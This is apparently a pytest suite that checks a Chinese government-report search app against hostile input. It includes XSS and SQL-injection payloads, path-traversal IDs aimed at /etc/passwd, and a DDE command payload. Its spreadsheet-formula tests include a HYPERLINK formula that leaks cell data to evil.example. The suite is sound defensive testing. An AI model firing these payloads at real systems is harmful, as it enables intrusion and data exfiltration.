"""Hostile input: query syntax of FTS5 and Elasticsearch, markup, control characters, floods, traversal.

Every answer is 200, 400 or 404 (never a 500), and no page or snippet carries the payload unescaped.
"""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from archive.config import load_config
from search_app import create_app

# (payload, the fragment that must never appear raw in a page); None where the payload is harmless
# as text and only the status matters.
HOSTILE = [
    # FTS5 query syntax
    ('"', None), ('""', None), ('"行政复议', None), ('行政复议"', None), ('"""复议"""', None),
    ("行政 NEAR(复议 办案, 2)", None), ('NEAR("行政" "复议")', None), ("复议*", None), ("*", None),
    ("^行政", None), ("title:复议", None), ("body:复议 OR section:总体", None), ("{title body}: 复议", None),
    ("行政 AND 复议 OR NOT 办案", None), ("NOT", None), ("AND OR NOT", None), ("(((复议", None),
    ("复议)))", None), ("- -- ---", None), ('"a" - "b"', None), ("-", None), ("--复议", None),
    # Elasticsearch query-string syntax
    ("title:x AND (y OR z)~2 /regex/ [a TO b]", None), ("*:*", None), ("\\", None), ("复议\\", None),
    ("year:{2019 TO 2021}", None), ("_exists_:title", None), ('"复议"~5^2', None), ("+行政 -复议 && || !", None),
    ("a /s b /p c /s", None), ("OR OR OR", None), ("行政 OR", None),
    # the box's own syntax pushed to its edges
    ("year:99999999999999999999", None), ("year:2021..2019", None), ("year:..", None), ("region: type:", None),
    # SQL
    ("'; DROP TABLE chunks; --", None), ("复议' OR '1'='1", None),
    # markup
    ("<script>alert(1)</script>", "<script>alert(1)"),
    ('"><img src=x onerror=alert(1)>', "<img src=x"),
    ("' onmouseover='alert(1)", "' onmouseover='"),
    ('" autofocus onfocus="alert(1)', '" autofocus onfocus="'),
    ("</textarea><svg onload=alert(1)>", "<svg onload"),
    ("javascript:alert(1)", None), ("{{ 7*7 }}{% raw %}", None),
    # a word no report holds: a <mark> around it can only be the query echoed unescaped (复议 is marked
    # legitimately wherever a passage holds it, so it cannot tell an echo from a highlight)
    ("<mark>量子纠缠</mark>", "<mark>量子纠缠</mark>"),
    # control and direction characters
    ("行政\x00复议", None), ("\x00", None), ("\u202e复议\u202d", None), ("\u200f行政\u200e复议", None),
    ("\ufeff\u2028\u2029\x0b\x0c", None), ("\U0001f600复议\U0001f600", None), ("ﬁ㍿Ⅻ①", None),
    # floods (500 characters is the longest query accepted; 501 is a 400)
    ("复" * 500, None), ("<" * 500, "<<"), ('"' * 500, None), ("(" * 500, None), ("复议 " * 100, None),
    ("-" * 500, None), ("x" * 500, None), ("复" * 501, None),
]
IDS = [f"{i}:{p[:20]!r}" for i, (p, _) in enumerate(HOSTILE)]

TRAVERSAL_IDS = ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..", ".",
                 "%2e%2e", "..\\..\\windows", "%00", "abc%00def", "x" * 5000, "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                 "'%20OR%20'1'%3D'1", "%E2%80%AE", "%F0%9F%98%80", "%ff%fe"]

_MARK = re.compile(r"</?mark>")


class _Tags(HTMLParser):
    """The tags a browser would build from a page, with their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_safe_page(body: str, marker: str | None) -> None:
    """No payload tag, no inline event handler, no script but the app's own, no javascript: link."""
    if marker:
        assert marker not in body, marker
    parser = _Tags()
    parser.feed(body)
    for tag, attrs in parser.tags:
        assert tag not in ("img", "iframe", "object", "embed"), (tag, attrs)  # the charts are inline svg
        assert not [a for a in attrs if a.lower().startswith("on")], (tag, attrs)
        if tag == "script":
            assert (attrs.get("src") or "").startswith("/static/"), attrs
        for name in ("href", "src", "action"):
            assert not (attrs.get(name) or "").strip().lower().startswith("javascript:"), (tag, attrs)


def assert_escaped(html: str) -> None:
    """Escaped HTML with only <mark> tags: what snippets and passage html must be."""
    bare = _MARK.sub("", html)
    assert "<" not in bare and ">" not in bare, html[:200]


def check(resp, marker: str | None = None) -> None:
    assert resp.status_code in (200, 400, 404), (resp.status_code, resp.get_data(as_text=True)[:300])
    if resp.mimetype == "application/json":
        body = resp.get_json()
        if resp.status_code != 200:
            assert set(body["error"]) == {"code", "message"}
        for hit in body.get("hits", []) if isinstance(body, dict) else []:
            assert_escaped(hit["snippet"])
        for chunk in body.get("chunks", []) if isinstance(body, dict) else []:
            assert_escaped(chunk["html"])
    else:
        assert resp.mimetype == "text/html"
        assert_safe_page(resp.get_data(as_text=True), marker)


@pytest.fixture(scope="module")
def doc_id(app) -> str:
    return app.extensions["archive"].backend.list_documents()[0].doc_id


def existing(app, paths: list[str]) -> list[str]:
    """The paths this app serves (pages added by other work are tested once they exist)."""
    adapter = app.url_map.bind("localhost")
    out = []
    for path in paths:
        try:
            adapter.match(path, method="GET")
            out.append(path)
        except Exception:  # noqa: BLE001 -- NotFound or MethodNotAllowed: not served
            pass
    return out


# -- queries against the session index ------------------------------------------------------


@pytest.mark.parametrize("payload, marker", HOSTILE, ids=IDS)
def test_hostile_queries_on_the_search_api(client, payload, marker):
    for mode in ("keyword", "semantic", "hybrid"):
        resp = client.get("/api/v1/search", query_string={"q": payload, "mode": mode})
        check(resp)
        if len(payload.strip()) > 500:
            assert resp.status_code == 400
        else:
            assert resp.status_code == 200


@pytest.mark.parametrize("payload, marker", HOSTILE, ids=IDS)
def test_hostile_queries_on_the_pages(app, client, doc_id, payload, marker):
    for mode in ("keyword", "hybrid"):
        check(client.get("/search", query_string={"q": payload, "mode": mode}), marker)
    check(client.get(f"/doc/{doc_id}", query_string={"q": payload}), marker)
    check(client.get(f"/api/v1/documents/{doc_id}", query_string={"q": payload}))
    # Filters are echoed back as facet chips and links: hostile values there too.
    check(client.get("/search", query_string={"q": "复议", "region": payload, "doc_type": payload}), marker)
    check(client.get("/api/v1/search", query_string={"q": "复议", "region": payload, "doc_type": payload}))
    for path in existing(app, ["/figures", "/grid", "/api/v1/figures", "/api/v1/grid"]):
        check(client.get(path, query_string={"q": payload}), marker)


@pytest.mark.parametrize("bad", ["page=0", "page=-1", "page=99999999999999999999", "size=0", "size=1e3",
                                 "year=abc", "year=2021.5", "year_from=%00", "mode=<script>", "sort=';--",
                                 "q=%ff%fe", "q=%ED%A0%80", "q=%C0%AF", "region=%00&year=1", "q&q&q="])
def test_hostile_parameters(client, bad):
    for path in ("/api/v1/search", "/search"):  # the page sends a page past the last to the last page
        check(client.get(f"{path}?{bad}", follow_redirects=True), "<script>")


@pytest.mark.parametrize("raw_id", TRAVERSAL_IDS)
def test_traversal_and_odd_document_ids(app, client, raw_id):
    paths = [f"/api/v1/documents/{raw_id}", f"/doc/{raw_id}", f"/doc/{raw_id}?q=复议"]
    paths += existing(app, [f"/similar/{raw_id}", f"/api/v1/passages/{raw_id}/similar"])
    for path in paths:
        resp = client.get(path)
        check(resp, "<script>alert(1)")
        assert resp.status_code in (400, 404), path
        assert "root:" not in resp.get_data(as_text=True)  # /etc/passwd never comes back


# -- a hostile report uploaded into a throw-away archive ------------------------------------

TOKEN = "inject-token-0123456789"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FILE_NAME = "<img src=x onerror=alert(1)>.txt"  # no quote or slash: those are the client's to encode
HOSTILE_REPORT = f"""{SCRIPT}云溪市2021年法治政府建设年度报告{IMG}
一、总体情况{SCRIPT}
全年收到行政复议申请152件{IMG}，受理138件，办结率99.77%。{SCRIPT}
二、{IMG}存在的问题
规范性文件审查{SCRIPT}共计45件，纠正3件。alert onerror script img
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An archive holding one report with markup in its title, text, headings and file name."""
    config = load_config({}, data_dir=tmp_path_factory.mktemp("hostile") / "data", embedder="hash",
                         api_tokens=(TOKEN,))
    client = create_app(config).test_client()
    resp = client.post("/api/v1/documents", headers={"Authorization": f"Bearer {TOKEN}"},
                       content_type="multipart/form-data",
                       data={"file": (io.BytesIO(HOSTILE_REPORT.encode()), FILE_NAME)})
    assert resp.status_code == 201, resp.get_json()
    return client, resp.get_json()["doc_id"]


def test_the_hostile_report_keeps_its_markup_as_data(hostile):
    client, doc = hostile
    body = client.get(f"/api/v1/documents/{doc}").get_json()
    text = "".join(c["text"] for c in body["chunks"])
    assert SCRIPT in text and IMG in text  # stored as written: it is the report's text
    assert any(m in body["title"] + body["source_name"] for m in (SCRIPT, IMG))
    for chunk in body["chunks"]:
        assert_escaped(chunk["html"])


@pytest.mark.parametrize("q", ["行政复议", "alert", "script onerror", "img", "规范性文件", "<script>", "总体情况"])
def test_the_hostile_report_is_escaped_wherever_it_is_shown(hostile, q):
    client, doc = hostile
    for mode in ("keyword", "semantic", "hybrid"):
        resp = client.get("/api/v1/search", query_string={"q": q, "mode": mode})
        check(resp)
        for hit in resp.get_json()["hits"]:
            assert_escaped(hit["snippet"])
            assert "<script>" not in hit["snippet"] and "<img" not in hit["snippet"]
        page = client.get("/search", query_string={"q": q, "mode": mode})
        check(page, "<script>alert(1)")
        assert "<img src=x" not in page.get_data(as_text=True)
    hits = client.get("/api/v1/search", query_string={"q": q, "mode": "keyword"}).get_json()["hits"]
    if q in ("行政复议", "alert", "规范性文件"):
        assert hits, q
    for path in (f"/doc/{doc}", f"/doc/{doc}?q={quote(q)}"):
        page = client.get(path)
        assert page.status_code == 200
        html = page.get_data(as_text=True)
        assert_safe_page(html, "<script>alert(1)")
        assert "<img src=x" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, escaped
    app = client.application
    for path in existing(app, ["/figures", "/grid"]):
        page = client.get(path, query_string={"q": q})
        check(page, "<script>alert(1)")
        assert "<img src=x" not in page.get_data(as_text=True)


# -- spreadsheet formulas and the Host header (issue 16) ------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"云溪市2021年法治政府建设年度报告")'
FORMULA_REPORT = """云溪市2021年法治政府建设年度报告
一、总体情况
=1+cmd|' /C calc'!A0 全年收到行政复议申请152件，受理138件。
二、存在的问题
@SUM(1+1) 规范性文件审查共计45件，纠正3件。
"""


@pytest.fixture(scope="module")
def formulas(tmp_path_factory):
    """An archive holding one report whose title and passages start like spreadsheet formulas."""
    import json

    config = load_config({}, data_dir=tmp_path_factory.mktemp("formulas") / "data", embedder="hash",
                         api_tokens=(TOKEN,), base_url="https://archive.example.gov.cn/reports")
    client = create_app(config).test_client()
    resp = client.post("/api/v1/documents", headers={"Authorization": f"Bearer {TOKEN}"},
                       content_type="multipart/form-data",
                       data={"file": (io.BytesIO(FORMULA_REPORT.encode()), "=formula.txt"),
                             "metadata": json.dumps({"title": FORMULA_TITLE}, ensure_ascii=False)})
    assert resp.status_code == 201, resp.get_json()
    return client


@pytest.mark.parametrize("q", ["行政复议", "规范性文件"])
def test_csv_exports_never_hold_a_formula(formulas, q):
    import csv

    resp = formulas.get("/api/v1/export/search.csv", query_string={"q": q, "mode": "keyword"})
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1:] and f"'{FORMULA_TITLE}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_export_links_come_from_the_base_url_not_the_host_header(formulas):
    resp = formulas.get("/api/v1/export/search.json", query_string={"q": "行政复议"},
                        headers={"Host": "evil.example"})
    rows = resp.get_json()["rows"]
    assert rows and all(r["url"].startswith("https://archive.example.gov.cn/reports/doc/") for r in rows)
    page = formulas.get("/help", headers={"Host": "evil.example"}).get_data(as_text=True)
    assert "evil.example" not in page and "https://archive.example.gov.cn/reports/api/v1/search" in page
